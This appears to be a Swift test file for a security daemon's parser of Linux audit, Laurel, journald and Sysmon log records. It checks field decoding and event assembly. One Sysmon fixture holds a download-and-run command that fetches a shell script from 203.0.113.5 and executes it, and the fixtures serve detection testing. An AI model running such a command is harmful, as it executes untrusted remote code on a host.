import Daemon
import EventModel
import Foundation
import Ingest
import TestSupport
import Testing

@Suite struct AuditTests {
    static func parse(_ line: String) -> [AuditRecord] {
        var bytes = Array(line.utf8)
        return bytes.withUnsafeMutableBufferPointer { AuditParser.parseAll(line: UnsafeBufferPointer($0)) }
    }

    /// Every `key=value` name in an audit line, found without the parser: a name before `=`
    /// outside quotes, and inside msg='…'.
    static func names(in text: String) -> Set<String> {
        var out = Set<String>()
        let regex = try! NSRegularExpression(pattern: #"(?:^|[ \x1d])([A-Za-z0-9_\-\[\]]+)=("[^"]*"|'[^']*'|[^ \x1d]*)"#)
        let ns = text as NSString
        for m in regex.matches(in: text, range: NSRange(location: 0, length: ns.length)) {
            let name = ns.substring(with: m.range(at: 1))
            let value = ns.substring(with: m.range(at: 2))
            if name == "msg", value.hasPrefix("'") {
                out.formUnion(names(in: String(value.dropFirst().dropLast())))
            } else if name != "type", name != "msg", name != "node" {
                out.insert(name)
            }
        }
        return out
    }

    /// audit.log lines of the third-party corpora (CrowdSec hub tests, Wazuh ruleset tests).
    static func corpusLines() throws -> [String] {
        let shared = Fixtures.shared + "/corpora"
        var lines: [String] = []
        let crowdsec = shared + "/crowdsec-hub/tests"
        for test in try FileManager.default.contentsOfDirectory(atPath: crowdsec) where test.hasPrefix("auditd-") {
            let text = try String(contentsOfFile: "\(crowdsec)/\(test)/\(test).log", encoding: .utf8)
            lines += text.split(separator: "\n").map(String.init)
        }
        for file in ["auditd.ini", "audit_scp.ini"] {
            let text = try String(contentsOfFile: shared + "/wazuh-ruleset-tests/tests/" + file, encoding: .utf8)
            for line in text.split(separator: "\n") where line.hasPrefix("log ") && line.contains("msg=audit(") {
                // The ini writes the enriched part's 0x1D separator as an escape.
                let record = line[line.range(of: " = ")!.upperBound...].replacingOccurrences(of: "\\u001D", with: "\u{1D}")
                lines.append(record.trimmingCharacters(in: .whitespaces))
            }
        }
        return lines
    }

    @Test func corpusRecordsParseWithEveryField() throws {
        let lines = try Self.corpusLines()
        #expect(lines.count >= 70)
        var records = 0
        for line in lines {
            let parsed = Self.parse(line)
            let expected = line.components(separatedBy: " msg=audit(").count - 1
            #expect(parsed.count == expected, "records in: \(line)")
            records += parsed.count
            let got = Set(parsed.flatMap { $0.fields.names })
            let missing = Self.names(in: line).subtracting(got)
            #expect(missing.isEmpty, "fields \(missing) lost from: \(line)")
        }
        print("audit corpus: \(lines.count) lines, \(records) records, every field read")
    }

    @Test func valuesAreDecoded() throws {
        let r = Self.parse(
            #"type=EXECVE msg=audit(1700000000.5:7): argc=3 a0="sh" a1="-c" a2=6563686F20226869223B206964 key=(null)"#)[0]
        #expect(r.type == "EXECVE" && r.serial == 7 && r.time == 1_700_000_000_500_000)
        #expect(r.string("a2") == #"echo "hi"; id"#)
        #expect(r.string("a1") == "-c")
        #expect(r.string("key") == "(null)")
        // A SYSCALL's aN are numbers in hex, never text.
        let s = Self.parse("type=SYSCALL msg=audit(1700000000.5:7): arch=c000003e syscall=59 a0=6162 comm=6C73 exe=\"/usr/bin/ls\"")[0]
        #expect(s.string("a0") == "6162")
        #expect(s.string("comm") == "ls")
        // User-space records carry their pairs inside msg='…'; the enriched part follows 0x1D.
        let u = Self.parse(
            "type=USER_AUTH msg=audit(1700000000.5:8): pid=1 uid=0 auid=4294967295 ses=4294967295 msg='op=PAM:authentication acct=\"root\" exe=\"/usr/sbin/sshd\" hostname=203.0.113.7 addr=203.0.113.7 terminal=ssh res=failed'\u{1D}UID=\"root\" AUID=\"unset\""
        )[0]
        #expect(u.string("acct") == "root" && u.string("addr") == "203.0.113.7" && u.string("res") == "failed")
        #expect(u.string("UID") == "root" && u.string("AUID") == "unset")
        // Several rule keys are joined by 0x01 and then hex-encoded.
        let k = Self.parse("type=SYSCALL msg=audit(1700000000.5:9): syscall=2 key=6964656E7469747901706173737764")[0]
        #expect(k.fields.all("key").map { String(decoding: $0, as: UTF8.self) } == ["identity", "passwd"])
        // The kernel's own form, with a numeric type.
        let avc = Self.parse("audit: type=1400 audit(1700000000.5:10): apparmor=\"DENIED\" operation=\"open\" name=\"/etc/shadow\"")[0]
        #expect(avc.type == "AVC" && avc.string("name") == "/etc/shadow")
        #expect(Self.parse("Nov 27 10:00:00 web1 sshd[1]: type=nothing here").isEmpty)
    }

    @Test func syscallNumbersHaveNames() {
        #expect(SyscallNames.name(arch: "c000003e", number: 59) == "execve")
        #expect(SyscallNames.name(arch: "c000003e", number: 322) == "execveat")
        #expect(SyscallNames.name(arch: "c00000b7", number: 221) == "execve")
        #expect(SyscallNames.name(arch: "c00000b7", number: 198) == "socket")
        #expect(SyscallNames.name(arch: "c00000b7", number: 79) == "newfstatat")
        #expect(SyscallNames.name(arch: "40000003", number: 11) == nil)
    }

    static func events(_ lines: [String], assembler: inout AuditAssembler, flush: Bool = true) -> [Event] {
        var decoder = LineDecoder(format: .auto, now: 0)
        var out: [Event] = []
        for (i, line) in lines.enumerated() {
            var bytes = Array(line.utf8)
            let position = SourcePosition(source: "audit.log", line: i + 1, offset: UInt64(i * 100))
            guard let event = bytes.withUnsafeMutableBufferPointer({ decoder.decode(UnsafeBufferPointer($0), position: position).event })
            else { continue }
            if !assembler.take(event, now: 0, into: &out) { out.append(event) }
        }
        if flush { assembler.flush(into: &out) }
        return out
    }

    static func strings(_ e: Event, _ name: String) -> [String] { e.fields.all(name).map { String(decoding: $0, as: UTF8.self) } }

    @Test func fragmentedAndInterleavedSerialsAssemble() {
        let a = AuditExec(exe: "/usr/bin/tar", argv: ["tar", "czf", "/tmp/out file.tgz", "/etc"], pid: 500, ppid: 400).lines(serial: 10)
        let b = AuditExec(exe: "/usr/bin/id", argv: ["id"], pid: 501, ppid: 400).lines(serial: 11)
        // Interleaved: b's records arrive between a's, and b closes first.
        let lines = [a[0], b[0], a[1], b[1], b[2], a[2], b[3], b[4], b[5], a[3], a[4], a[5]]
        var assembler = AuditAssembler()
        let out = Self.events(lines, assembler: &assembler, flush: false)
        #expect(out.count == 2)
        #expect(Self.strings(out[0], "AUDIT_SERIAL") == ["11"])
        #expect(Self.strings(out[1], "type") == ["SYSCALL", "EXECVE", "CWD", "PATH", "PROCTITLE"])
        #expect(Self.strings(out[1], "SYSCALL") == ["execve"])
        #expect(Self.strings(out[1], ProcessFields.commandLine) == ["tar czf /tmp/out file.tgz /etc"])
        #expect(Self.strings(out[1], ProcessFields.image) == ["/usr/bin/tar"])
        #expect(Self.strings(out[1], ProcessFields.currentDirectory) == ["/home/alice"])
        #expect(Self.strings(out[1], "a2").contains("/tmp/out file.tgz"))
        #expect(Self.strings(out[1], ProcessFields.logonID) == ["1000"])
        // The event's position is its first record's: a checkpoint never moves past a waiting record.
        #expect(out[1].position.line == 1)
        #expect(assembler.statistics.incomplete == 0 && assembler.pendingCount == 0)

        // A long argument split over parts, and the parent known from its own exec.
        let parent = AuditExec(exe: "/usr/bin/bash", argv: ["bash", "-c", "x"], pid: 400, ppid: 1).lines(serial: 20)
        let long = String(repeating: "A", count: 30)
        let child = [
            "type=SYSCALL msg=audit(1764240001.000:21): arch=c000003e syscall=59 success=yes exit=0 ppid=400 pid=402 auid=4294967295 uid=0 comm=\"echo\" exe=\"/usr/bin/echo\"",
            "type=EXECVE msg=audit(1764240001.000:21): argc=2 a0=\"echo\" a1_len=30 a1[0]=\"\(long.prefix(20))\" a1[1]=\"\(long.suffix(10))\"",
            "type=EOE msg=audit(1764240001.000:21): ",
        ]
        let more = Self.events(parent + child, assembler: &assembler)
        #expect(more.count == 2)
        #expect(Self.strings(more[1], ProcessFields.commandLine) == ["echo \(long)"])
        #expect(Self.strings(more[1], ProcessFields.parentImage) == ["/usr/bin/bash"])
        #expect(Self.strings(more[1], ProcessFields.parentCommandLine) == ["bash -c x"])
        // auid unset: no logon id; uid 0 is root on any host.
        #expect(Self.strings(more[1], ProcessFields.logonID).isEmpty)
        #expect(Self.strings(more[1], ProcessFields.user) == ["root"])
    }

    @Test func recordsWithoutEOEAreBoundedAndGivenOut() {
        var assembler = AuditAssembler(maxPending: 100, wait: 2_000_000)
        var out: [Event] = []
        var decoder = LineDecoder(format: .audit, now: 0)
        // 10,000 serials, one second apart in pairs, and no EOE ever.
        for n in 0..<10_000 {
            var bytes = Array(
                "type=SYSCALL msg=audit(\(1_764_240_000 + n / 2).000:\(n)): arch=c000003e syscall=2 success=yes exit=3 pid=1".utf8)
            let event = bytes.withUnsafeMutableBufferPointer {
                decoder.decode(UnsafeBufferPointer($0), position: SourcePosition(source: "a", line: n + 1, offset: 0)).event!
            }
            #expect(assembler.take(event, now: 0, into: &out))
            #expect(assembler.pendingCount <= 100)
        }
        // Event time moves on: records more than two seconds older than the newest are given out.
        #expect(assembler.pendingCount <= 6)
        assembler.flush(into: &out)
        #expect(out.count == 10_000)
        #expect(assembler.statistics.incomplete == 10_000)
        // Live: wall time expires what waits.
        var live = AuditAssembler(wait: 1_000_000)
        var ready: [Event] = []
        var bytes = Array("type=SYSCALL msg=audit(1764240000.000:1): syscall=2".utf8)
        let e = bytes.withUnsafeMutableBufferPointer {
            decoder.decode(UnsafeBufferPointer($0), position: SourcePosition(source: "a", line: 1, offset: 0)).event!
        }
        _ = live.take(e, now: 5_000_000, into: &ready)
        #expect(ready.isEmpty && live.heldPositions()["a"]?.line == 1)
        live.expire(now: 5_500_000, into: &ready)
        #expect(ready.isEmpty)
        live.expire(now: 6_000_001, into: &ready)
        #expect(ready.count == 1 && live.heldPositions().isEmpty)
    }

    @Test func laurelEventsGiveTheSameFields() throws {
        let path = Fixtures.shared + "/corpora/crowdsec-hub/tests/laurel-logs/laurel-logs.log"
        let (events, _) = try Fixtures.readAll(path)
        var assembler = AuditAssembler()
        var out: [Event] = []
        for e in events where !assembler.take(e, now: 0, into: &out) { out.append(e) }
        #expect(out.count == 6)
        let first = out[0]
        #expect(Self.strings(first, "type").starts(with: ["SYSCALL", "EXECVE", "PATH", "PROCTITLE"]))
        #expect(Self.strings(first, "SYSCALL") == ["execve"])
        #expect(Self.strings(first, "exe") == ["/usr/sbin/nft"])
        #expect(Self.strings(first, "a0").contains("/usr/sbin/nft"))
        #expect(Self.strings(first, "arch") == ["c000003e"])
        #expect(Self.strings(first, ProcessFields.commandLine) == ["/usr/sbin/nft -j list set ip crowdsec crowdsec-blacklists"])
        #expect(Self.strings(first, ProcessFields.parentImage) == ["/usr/bin/crowdsec-firewall-bouncer"])
        #expect(Self.strings(first, "name").contains("/lib64/ld-linux-x86-64.so.2"))
        #expect(Self.strings(out[5], "type") == ["ANOM_ABEND"])
    }

    @Test func journaldAuditTransportAndSysmon() {
        var fields = EventFields()
        fields.add("_TRANSPORT", "audit")
        fields.add("_AUDIT_ID", "77")
        fields.add("_AUDIT_TYPE_NAME", "EXECVE")
        fields.add("_HOSTNAME", "web1")
        fields.add("MESSAGE", #"EXECVE argc=2 a0="chattr" a1="-i""#)
        var assembler = AuditAssembler()
        var out: [Event] = []
        #expect(
            assembler.take(
                Event(time: 1_764_240_000_000_000, position: SourcePosition(source: "journal", line: 1, offset: 0), fields: fields), now: 0,
                into: &out))
        assembler.flush(into: &out)
        #expect(out.count == 1)
        #expect(Self.strings(out[0], "type") == ["EXECVE"])
        #expect(Self.strings(out[0], "a0") == ["chattr"])
        #expect(Self.strings(out[0], "_HOSTNAME") == ["web1"])

        let xml =
            #"<Event><System><Provider Name="Linux-Sysmon" Guid="{ff032593-a8d3-4f13-b0d6-01fc615a0f97}"/><EventID>1</EventID></System><EventData><Data Name="RuleName">-</Data><Data Name="ProcessId">3045</Data><Data Name="Image">/usr/bin/curl</Data><Data Name="CommandLine">curl -s http://203.0.113.5/x.sh -o /tmp/x.sh &amp;&amp; sh /tmp/x.sh</Data><Data Name="CurrentDirectory">/root</Data><Data Name="User">root</Data><Data Name="LogonId">0</Data><Data Name="ParentImage">/usr/bin/bash</Data><Data Name="ParentCommandLine">-bash</Data></EventData></Event>"#
        let event = Fixtures.syslog("<14>Nov 27 10:00:00 web1 sysmon: \(xml)")
        var sysmon: [Event] = []
        #expect(assembler.take(event, now: 0, into: &sysmon))
        #expect(Self.strings(sysmon[0], ProcessFields.category) == ["process_creation"])
        #expect(Self.strings(sysmon[0], ProcessFields.commandLine) == ["curl -s http://203.0.113.5/x.sh -o /tmp/x.sh && sh /tmp/x.sh"])
        #expect(Self.strings(sysmon[0], ProcessFields.parentImage) == ["/usr/bin/bash"])
        #expect(Self.strings(sysmon[0], ProcessFields.logonID) == ["0"])
        // Anything else passes by untouched.
        var none: [Event] = []
        #expect(
            !assembler.take(Fixtures.syslog("<14>Nov 27 10:00:00 web1 sshd[1]: type=x msg=audit(1.1:1): Accepted"), now: 0, into: &none))
        #expect(none.isEmpty)
    }
}
